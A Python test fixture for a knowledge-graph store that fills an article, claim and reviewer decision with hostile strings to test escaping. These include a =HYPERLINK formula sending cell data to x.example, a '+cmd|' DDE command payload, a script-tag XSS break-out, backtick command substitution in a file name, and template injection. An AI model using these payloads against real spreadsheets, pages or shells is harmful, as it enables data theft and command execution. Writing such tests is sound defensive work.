"""A store with one article whose words are made to do harm wherever they are put, and a decision on its claim."""

from __future__ import annotations

from rdflib import Literal, URIRef

from kg.graph.rdf import article_quads, iris, literals, proposition_quads, registry_quads
from kg.graph.store import Store, open_store
from kg.model import (
    Agent,
    Article,
    Basis,
    Chain,
    Claim,
    ClaimKind,
    Commitment,
    Fact,
    Hop,
    Known,
    Membership,
    Proposition,
    Quote,
    Role,
    Run,
    SourceKind,
    Span,
    Stance,
)
from kg.model.vocab import DATA, DECISIONS_GRAPH, KG, PROPOSITIONS_GRAPH, PROV, RDFS, REGISTRY_GRAPH, XSD
from kg.propositions.verdicts.materialize import refresh
from kg.sources.registry import Registry

TEXT = (
    '=HYPERLINK("http://x.example/?"&A1) said </script><script>alert(1)</script> '
    "\x01\x0b]]>&amp; \u202eabc\u2028 {{7*7}}."
)
SOURCE = "=HYPERLINK"
ARTICLE = Article(
    "-evil'`id`.txt",
    TEXT,
    title=Fact('@SUM("<b>")', Known.ASSERTED),
    outlet=Fact("+cmd|' /C calc'!A0", Known.ASSERTED),
    date=Fact("2017-09-06", Known.ASSERTED),
    language=Fact("en", Known.ASSERTED),
    url=Fact("https://x.example/a?b=<c>&d", Known.ASSERTED),
)
_SAYS = Agent("=evil\x07", "=evil\x07</script>", SourceKind.UNNAMED, labels=(("en", "=evil\x07</script>"),))
_OUTLET = Agent("outlet", "unknown outlet", SourceKind.UNSPECIFIED, labels=(("en", "unknown outlet"),))
CLAIM = Claim(
    ARTICLE.id,
    0,
    Span(0, len(TEXT)),
    TEXT,
    ClaimKind.STATEMENT,
    "en",
    (
        Chain(
            (
                Hop(Role.ORIGIN, _SAYS, Basis.EXPLICIT, "by-hand", Span(0, len(SOURCE)), None, 0.75),
                Hop(Role.OUTLET, _OUTLET, Basis.METADATA, "outlet"),
            )
        ),
    ),
    Quote.NONE,
    Commitment.ASSERTED,
)
IRI = str(iris.claim(ARTICLE.id, CLAIM.span))
PROPOSITION = Proposition(
    "evil", (("en", TEXT),), (Membership(ARTICLE.id, CLAIM.span, Stance.EXPRESSES, 0.9, ("=1+1",)),)
)


def store() -> Store:
    """The store, in memory."""
    made = open_store(None)
    made.replace(REGISTRY_GRAPH, registry_quads(Registry(())))
    made.replace(iris.article_graph(ARTICLE.id), article_quads(ARTICLE, (CLAIM,), Run("0", (), "0" * 64)))
    made.replace(PROPOSITIONS_GRAPH, proposition_quads((PROPOSITION,), ()))
    refresh(made)
    return made


def decide(made: Store, kind: str = "other-speaker", *, rejected: bool = False) -> None:
    """A decision of a person on the claim, in force."""
    decision, person, claim = URIRef(f"{DATA}decision/d1"), URIRef(f"{DATA}reviewer/r1"), URIRef(IRI)
    triples = [
        (decision, KG.decides, claim),
        (decision, KG.inForce, literals.boolean(True)),
        (decision, KG.decisionKind, KG[kind]),
        (decision, PROV.generatedAtTime, Literal("2026-11-30T10:00:00Z", datatype=XSD.dateTime, normalize=False)),
        (decision, PROV.wasAttributedTo, person),
        (decision, KG.why, literals.text("</script> \\ 'why'\nline")),
        (person, RDFS.label, literals.text("A reader")),
    ]
    if rejected:
        triples.append((claim, KG.rejected, literals.boolean(True)))
    made.replace(DECISIONS_GRAPH, [(*triple, DECISIONS_GRAPH) for triple in triples])
